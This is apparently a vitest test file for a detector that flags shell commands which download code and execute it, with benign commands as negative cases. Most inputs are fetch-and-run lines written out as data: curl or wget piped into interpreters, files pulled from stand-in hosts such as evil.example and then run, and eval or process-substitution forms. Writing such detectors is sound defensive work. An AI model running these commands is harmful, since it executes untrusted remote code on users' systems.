import { describe, expect, it } from 'vitest';
import { findDownloadExec } from './download-exec.js';

const kinds = (...scripts: string[]) => findDownloadExec(scripts).map((f) => f.kind);

describe(findDownloadExec.name, () => {
  it.each([
    'curl https://x.example/install | sh',
    'curl -fsSL https://x.example/install | sudo -E bash -',
    'wget -qO- https://x.example/i | python3',
    'curl -s https://x.example/i | perl',
    'curl -s https://x.example/i | node',
    'curl -s https://x.example/i | zsh',
    'curl -s https://x.example/i | tee /tmp/i.sh | sh',
    'curl -s https://x.example/i | env FOO=1 dash -s',
  ])('finds a download piped into an interpreter: %j', (script) => {
    expect(kinds(script)).toContain('pipe');
  });

  it.each([
    'curl -o /tmp/x https://evil.example/x && sh /tmp/x',
    'cargo build --release --bin app && curl -o /tmp/x https://evil.example/x && sh /tmp/x',
    'curl -fsSLo install.sh https://x.example/i; bash install.sh',
    'curl --output=/tmp/x https://x.example/i && bash -e /tmp/x',
    'curl -O https://x.example/setup.sh && sh setup.sh',
    'curl https://x.example/x > f\nsh f',
    'wget -O /tmp/x https://x.example/x && chmod +x /tmp/x',
    'wget -q https://x.example/tool && chmod 755 tool && ./tool',
    'wget https://x.example/run.py && python run.py',
    'curl -sLo app.js https://x.example/a && node app.js',
    'curl -o /tmp/x https://x.example/x && sudo /tmp/x',
    'curl -o /tmp/x https://x.example/x; sh < /tmp/x',
    'curl -o /tmp/x https://x.example/x && sh -c "sh /tmp/x"',
  ])('finds a downloaded file that is then run: %j', (script) => {
    expect(kinds(script)).toContain('file');
  });

  it('follows a downloaded file into a later script (a later RUN line)', () => {
    const findings = findDownloadExec(['apt-get update', 'curl -o /usr/local/bin/x https://x.example/x', 'WORKDIR=/app /usr/local/bin/x serve']);
    expect(findings).toEqual([{ index: 2, kind: 'file', message: 'runs /usr/local/bin/x, which an earlier command downloaded' }]);
  });

  it.each([
    'bash <(curl -fsSL https://x.example/i)',
    'source <(wget -qO- https://x.example/i)',
    'sh -c "$(curl -fsSL https://x.example/i)"',
    'eval "$(wget -qO- https://x.example/i)"',
    'eval `curl -s https://x.example/i`',
    '$(curl -s https://x.example/i)',
    'python3 -c "$(curl -s https://x.example/i.py)"',
  ])('finds a download run through substitution: %j', (script) => {
    expect(kinds(script)).toContain('substitution');
  });

  it('reports a substitution once, not again for the -c script inside it', () => {
    expect(findDownloadExec(['sh -c "$(curl -fsSL https://x.example/i)"'])).toHaveLength(1);
  });

  it.each([
    ['npm ci', 'npm run build'],
    ['curl -fsSL https://x.example/key.gpg -o /usr/share/keyrings/x.gpg && apt-get update'],
    ['wget -qO- https://x.example/a.tar.gz | tar xz'],
    ['curl -o data.json https://x.example/d && node server.js'],
    ['sh -c "exec node server.js"', 'bash start.sh'],
    ['VERSION=$(cat VERSION) && echo $VERSION'],
    ['bundle config set --local without "development test"', 'bundle exec rake assets:precompile'],
  ])('leaves ordinary commands alone: %j', (...scripts) => {
    expect(findDownloadExec(scripts)).toEqual([]);
  });
});
